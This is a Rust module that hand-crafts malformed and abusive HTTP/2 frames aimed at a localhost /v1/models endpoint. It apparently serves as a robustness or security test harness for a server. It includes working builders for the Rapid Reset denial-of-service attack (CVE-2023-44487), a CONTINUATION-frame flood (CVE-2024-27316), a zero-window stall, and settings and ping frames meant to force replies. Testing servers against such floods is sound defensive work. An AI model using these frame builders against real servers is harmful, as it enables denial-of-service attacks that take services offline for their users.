//! HTTP/2 by hand: frames that no well-behaved client would send.

/// What a connection begins with: the preface, and settings that change nothing.
pub fn begin() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(no_settings());
    out
}

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// `GET http://localhost/v1/models`, in HPACK without its table: indexed fields, and literals that nobody remembers.
fn head() -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name_index, value) in [(0x04, "/v1/models"), (0x01, "localhost")] {
        block.push(name_index);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

/// A request, and at once its end (CVE-2023-44487).
pub fn opened_and_reset(stream: u32) -> Vec<u8> {
    let mut out = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head());
    out.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    out
}

/// Settings that must be acknowledged.
pub fn settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
}

/// Settings that change nothing, and must be acknowledged all the same.
pub fn no_settings() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

/// A ping that must be answered.
pub fn ping() -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

/// A head that does not end: what a request begins with, to be followed by [`more_head`] (CVE-2024-27316).
pub fn endless_head(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM, stream, &head())
}

/// Another piece of it: a literal field.
pub fn more_head(stream: u32) -> Vec<u8> {
    let mut block = vec![0x00, 0x03];
    block.extend_from_slice(b"x-a");
    block.push(0x7e);
    block.extend_from_slice(&[b'a'; 0x7e]);
    frame(CONTINUATION, 0, stream, &block.repeat(32))
}

/// A request whose answer is given no window: settings of 0 bytes a stream, then the request.
pub fn without_window(stream: u32) -> Vec<u8> {
    let mut out = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    out.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head()));
    out
}
